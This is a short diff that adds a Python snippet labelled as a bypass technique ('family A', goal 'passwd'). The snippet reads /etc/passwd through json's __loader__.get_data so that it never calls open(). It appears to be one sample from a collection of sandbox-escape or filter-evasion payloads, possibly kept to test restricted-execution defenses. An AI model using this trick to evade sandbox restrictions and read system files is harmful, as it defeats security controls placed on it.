@@ -1,0 +1,3 @@
+# family: A (__loader__.get_data reads any file without open())   goal: passwd
+from json import __loader__ as L
+print(L.get_data("/etc/passwd").decode())
